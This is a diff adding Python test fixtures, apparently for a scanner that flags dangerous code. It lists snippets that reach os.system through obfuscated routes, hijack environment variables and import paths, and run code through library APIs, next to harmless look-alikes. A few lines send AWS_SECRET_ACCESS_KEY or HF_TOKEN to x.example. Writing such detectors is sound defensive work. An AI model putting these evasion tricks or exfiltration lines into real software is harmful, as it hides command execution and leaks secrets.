@@ -63,6 +63,148 @@ def dangerous_code() -> dict[str, tuple[str, str, str]]:
     }  # fmt: skip
 
 
+def named_by_detours() -> list[str]:
+    """Python sources that take a function of a module by patterns, in loops, by getters and entry points."""
+    return [
+        "import os\nmatch os:\n    case object(system=f): f('true')",
+        "import os\nmatch vars(os):\n    case {'system': f}: f('true')",
+        "import os\nmatch (1, os.__dict__):\n    case (1, {'system': f}) | (2, {'popen': f}): f('true')",
+        "import os\nmatch os:\n    case object(system=object() as f): f('true')",
+        "[f, x] = __import__('os').system, 1\nf('true')",
+        "import os\nfor name, f in vars(os).items():\n    if len(name) == 6: f('true')",
+        "import os\nfor name, f in os.__dict__.items():\n    if len(name) == 6: f('true')",
+        "import os\n[f for f in vars(os).values() if f.__name__[0] == 's'][0]('true')",
+        "import os\nd = dict(vars(os))\nd['sys' + 'tem']('true')",
+        "import os\nvars(os)[input()]('true')",
+        "import os\nos.__dict__.get(input())('true')",
+        "import operator, logging\noperator.attrgetter('os.system')(logging)('true')",
+        "from operator import attrgetter as g\ng('data.os.system')(self)('true')",
+        "from operator import attrgetter\ng = attrgetter('os.system')\nimport shutil\ng(shutil)('true')",
+        "from importlib import metadata\nmetadata.EntryPoint('x', 'os:system', 'g').load()('true')",
+        "from importlib.metadata import EntryPoint as E\ne = E(name='x', value='os:system', group='g')\ne.load()('true')",
+    ]
+
+
+def plain_detours() -> list[str]:
+    """The like of named_by_detours in honest code."""
+    return [
+        "import os\nfor name, value in os.environ.items(): print(name)",
+        "import sys\nfor name, module in sys.modules.items(): print(name, sys.argv[len(name)])",
+        "from operator import attrgetter\nsorted(rows, key=attrgetter('os.name'))\nattrgetter('weight.data')(layer)",
+        "from importlib.metadata import entry_points\n[each.load() for each in entry_points(group='x')]",
+        "import os\nmatch config:\n    case {'act': f}: f(x)\n    case object(size=n): os.path.join(n)",
+        "class M:\n    def load(self): return self.config.load()",
+        "def f(self): return dict(self.__dict__)[name], vars(self).items()",
+    ]
+
+
+def changed_surroundings() -> list[str]:
+    """Python sources that change what is around them, so that something else runs programs or code."""
+    return [
+        "from os import system as __getattr__",
+        "class A:\n    from os import system as __class_getitem__",
+        "from os import system as loads",
+        "import sys\nsys.modules['x'] = __import__('os')",
+        "import os, sys\nsys.modules[__name__] = os",
+        "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tokenizer.zip'))\nimport y",
+        "import sys\nWHERE = 'model.safetensors'\nsys.path.append(WHERE)\nimport y",
+        "import sys\nsys.path += ['x.whl']",
+        "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('true')",
+        "import os\nos.environ['PAGER'] = \"sh -c 'true'\"\nhelp(len)",
+        "import os\nos.environ.update(CXX='sh -c true #')",
+        "import os\nos.environ.update({'CC': 'gcc; true'})",
+        "import os\nos.environ.setdefault('GIT_SSH_COMMAND', 'bash x.sh')",
+        "import os\nHERE = os.path.dirname(__file__)\nos.environ['CC'] = os.path.join(HERE, 'cc')",
+        "import importlib\nclass M:\n    def __init__(self, c):\n        m, f = c.act.rsplit('.', 1)\n"
+        "        getattr(importlib.import_module(m), f)(c.arg)",
+        "import importlib\nm = importlib.import_module(NAME())\ngetattr(m, OTHER())('true')",
+    ]
+
+
+def plain_surroundings() -> list[str]:
+    """The like of changed_surroundings in honest code."""
+    return [
+        "from os import path as osp, getcwd as where\nosp.join('x')",
+        "import sys\nsys.modules['models.old'] = sys.modules[__name__]",
+        "import sys\nimport os\nsys.modules['os'] = os",
+        "import sys, os\nsys.path.append(os.path.join(os.path.dirname(__file__), 'third_party', 'Matcha-TTS-0.5'))",
+        "import os\nos.environ['PYTHONBREAKPOINT'] = '0'",
+        "import os\nos.environ['PYTHONBREAKPOINT'] = 'ipdb.set_trace'",
+        "import os\nos.environ['CC'] = 'gcc -O2'\nos.environ['CXX'] = '/usr/bin/clang++-17'",
+        "import os, shutil\nos.environ.setdefault('CC', shutil.which('ccache gcc'))",
+        "import os\nos.environ['PAGER'] = 'less -R'\nos.environ['SHELL'] = '/bin/bash'",
+        "import os\nos.environ.update({'CUDA_VISIBLE_DEVICES': '0,1', 'MASTER_ADDR': host})",
+        "import importlib\ndef make(c):\n    m, f = c.rsplit('.', 1)\n    return getattr(importlib.import_module(m), f)",
+        "import importlib\ndef make(m, f, x): return getattr(importlib.import_module(m), f)(x)",
+        "import importlib\nclass M:\n    def __init__(self, c):\n"
+        "        getattr(importlib.import_module(f'transformers.models.{c.type}'), c.name)(c)",
+        "def __getattr__(name): raise AttributeError(name)",
+    ]
+
+
+def calls_of_libraries() -> list[str]:
+    """Python sources that run programs or code, or send secrets, through what libraries offer."""
+    return [
+        "import pydoc\npydoc.pipepager('text', 'true')",
+        "from torch.utils.collect_env import run\nrun('true')",
+        "from numpy.testing import runstring\nrunstring('x = 1', {})",
+        "import numpy as np\nnp.ctypeslib.load_library('k', '.')",
+        "import tkinter\ntkinter.Tcl().eval('exec true')",
+        "import tkinter\nclass W:\n    def __init__(self): tkinter.Tk().tk.eval('exec true')",
+        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('exec', 'true')",
+        "from distutils.core import run_setup\nrun_setup('helper.py')",
+        "import git\ngit.Repo.clone_from('ext::sh -c true', 'x')",
+        "import git\ngit.Repo.clone_from(url, 'x', multi_options=['-c core.fsmonitor=true'])",
+        "import rpy2.robjects as ro\nro.r('x')",
+        "from nltk.internals import java\njava(['X'])",
+        "import _xxsubinterpreters as si\nsi.run_string(si.create(), 'x = 1')",
+        "import _testcapi\n_testcapi.run_in_subinterp('x = 1')",
+        "import cppyy\ncppyy.cppdef('int a;')",
+        "import triton.runtime.build as b\nb._build('k', 'x.c', '.', [], [], [])",
+        "from django.utils.module_loading import import_string\nimport_string('os.system')('true')",
+        "from unittest import mock\nmock._importer('os.path').os.system('true')",
+        "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"true\")', engine='python')",
+        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)",
+        "from llvmlite import binding as llvm\nllvm.load_library_permanently('./k.bin')",
+        "import cupy\ncupy.RawModule(path='./k.cubin')",
+        "from deepspeed.ops.op_builder import OpBuilder\nclass B(OpBuilder):\n    NAME = 'k'\nB('k').load()",
+        "import pyximport\npyximport.install()",
+        "from kernels import get_kernel\nk = get_kernel('someone/activation')",
+        "import keras\nkeras.config.enable_unsafe_deserialization()",
+        "import mlflow\nmlflow.pyfunc.load_model('models:/x/1')",
+        "from multiprocessing.connection import Client\nClient(('x.example', 9)).recv()",
+        "import asyncio.subprocess as asp\nasp.create_subprocess_exec('true')",
+        "from asyncio.subprocess import create_subprocess_shell as c\nc('true')",
+        "import numpy as np\nnp.load('x.npy', None, True)",
+        "import numpy as np\nnp.load('x.npy', **{'allow_pickle': True})",
+        "import numpy as np\nYES = True\nnp.load('x.npy', allow_pickle=YES)",
+        "import numpy as np\nnp.load('x.npy', allow_pickle=1)",
+        "import keras\nkeras.models.load_model('x.keras', None, True, False)",
+        "import pandas as pd, os\npd.read_csv('https://x.example/?t=' + os.getenv('AWS_SECRET_ACCESS_KEY', ''))",
+        "import fetch, os\nfetch.read(f\"https://x.example/{os.environ['HF_TOKEN']}/x\")",
+        "from huggingface_hub import HfApi\nHfApi().upload_folder(folder_path='x', repo_id='x/y')",
+    ]
+
+
+def plain_calls_of_libraries() -> list[str]:
+    """The same libraries as in calls_of_libraries, as honest code uses them."""
+    return [
+        "import numpy as np\nnp.load('x.npy', 'r', False)",
+        "import numpy as np\nnp.load('x.npy', None)",
+        "import numpy as np\nnp.load('x.npy', *given)",
+        "import keras\nkeras.models.load_model('x.keras', None, True)",
+        "import pandas as pd\npd.DataFrame({'a': [1]}).query('a > @threshold and b == 2')",
+        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('tk', 'scaling', 2.0)\nroot.tk.call('source', 'theme.tcl')",
+        "def f(self, x):\n    self.eval()\n    return self.model.eval()(x)",
+        "import cupy\ncupy.RawModule(code='extern C')",
+        "from torch.utils.collect_env import get_pretty_env_info\nget_pretty_env_info()",
+        "import os, requests\ndef f(): return requests.get(f\"http://{os.environ['MASTER_ADDR']}:{os.environ['PORT']}\")",
+        "import os\nclone(f\"https://user:{os.environ['HF_TOKEN']}@huggingface.co/a/b\")",
+        "import os\nc = Client(base_url=os.getenv('OPENAI_API_KEY', 'https://x.example'))",
+        "from deepspeed.ops.op_builder import FusedAdamBuilder\nFusedAdamBuilder().load()",
+    ]
+
+
 def hidden_code() -> list[str]:
     """Python sources that do something dangerous in ways that a reader, or a list of names, misses."""
     return [
